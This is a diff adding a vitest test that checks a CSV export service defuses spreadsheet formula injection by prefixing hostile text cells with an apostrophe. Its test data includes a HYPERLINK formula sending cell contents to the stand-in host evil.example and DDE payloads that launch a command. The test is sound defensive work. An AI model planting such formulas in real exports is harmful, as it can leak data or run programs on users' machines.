@@ -1,10 +1,13 @@
 import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { OperationId } from '@shared/contract';
 import { MESSAGES } from '@shared/messages';
+import { GROUP_EXPORT_COLUMNS } from '@shared/rules/groups';
 import { ApiClient } from '../../src-main/services/api-client';
-import { ExportFailedError, exportToCsvFile, pagingPart, type Progress } from '../../src-main/services/csv-export';
+import { type CallOperation, ExportFailedError, exportToCsvFile, pagingPart, type Progress } from '../../src-main/services/csv-export';
 import { writeCsvFile } from '../../src-main/services/files';
 import { createSessionVault } from '../../src-main/services/session-vault';
 import { accounts } from '../../src-server/db/schema';
@@ -115,6 +118,43 @@ describe('CSV export streamed from a list operation', () => {
     const lines = readFileSync(path, 'utf8').trimEnd().split('\r\n').slice(1);
     expect(lines.every((line) => line.includes('Chloé'))).toBe(true);
     await api.close();
+  });
+
+  // OWASP CSV injection: a text a spreadsheet would run comes back with a ' in front (quoted, as papaparse writes an
+  // escaped cell); number-typed values, negative ones included, and texts that are plain numbers stay as they are.
+  it('neutralises formulas in text cells of every list export, never numbers', async () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", '-2+3', '\t=1+1', '\r=1+1'];
+    const read = (path: string) => Papa.parse<string[]>(readFileSync(path, 'utf8').replace(/^\uFEFF/, ''), { delimiter: ';', newline: '\r\n', skipEmptyLines: true }).data;
+
+    // Accounts, through the real server: hostile names.
+    const api = await signedInClient(['ADMIN']);
+    await server.database.db.insert(accounts).values(hostile.map((name, i) => ({ name, email: `hostile-${i}@formula.local`, passwordHash: 'x', roles: ['CSM'] })));
+    const accountsPath = join(scratch, 'comptes-hostiles.csv');
+    await exportToCsvFile(
+      (operation, input) => api.call(operation, input as never),
+      { operation: 'admin.accounts.list', input: { query: { term: 'formula.local' } }, columns: [{ key: 'name', header: 'Nom' }, { key: 'username', header: 'E-mail' }] },
+      accountsPath,
+    );
+    const accountCells = read(accountsPath).slice(1);
+    expect(accountCells.map((row) => row[0]).sort()).toEqual(hostile.map((name) => `'${name}`).sort());
+    expect(readFileSync(accountsPath, 'utf8')).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")";hostile-0@formula.local\r\n`);
+    await api.close();
+
+    // Adverts and groups: their rows as the API answers them, with number-typed and list values.
+    const answers: Partial<Record<OperationId, Record<string, unknown>[]>> = {
+      'adverts.list': hostile.map((title, i) => ({ id: i + 1, type: 'post', name: hostile[(i + 1) % hostile.length], title, weight: -5 - i, isFree: false, source: '-7' })),
+      'groups.list': hostile.map((name, i) => ({ id: -(i + 1), name, label: 'Feed', labels: [hostile[i], 'Feed'], audiencesCount: -1.5 })),
+    };
+    const call: CallOperation = async (operation) => ({ ok: true, data: { items: answers[operation] ?? [], total: hostile.length } }) as never;
+    const advertsPath = join(scratch, 'adverts-hostiles.csv');
+    await exportToCsvFile(call, { operation: 'adverts.list', input: { body: {} } as never, columns: ['id', 'name', 'title', 'weight', 'isFree', 'source'].map((key) => ({ key, header: key })) }, advertsPath);
+    expect(read(advertsPath).slice(1)).toEqual(
+      hostile.map((title, i) => [String(i + 1), `'${hostile[(i + 1) % hostile.length]}`, `'${title}`, String(-5 - i), 'false', '-7']),
+    );
+    expect(readFileSync(advertsPath, 'utf8')).toContain(`;-5;false;-7\r\n`);
+    const groupsPath = join(scratch, 'groupes-hostiles.csv');
+    await exportToCsvFile(call, { operation: 'groups.list', input: { query: {} }, columns: GROUP_EXPORT_COLUMNS.map((column) => ({ ...column })) }, groupsPath);
+    expect(read(groupsPath).slice(1)).toEqual(hostile.map((name, i) => [String(-(i + 1)), `'${name}`, 'Feed', `'${name}, Feed`, '-1.5']));
   });
 
   it('fails cleanly when the rows fail before the file is even open (no stray stream error), leaving nothing', async () => {
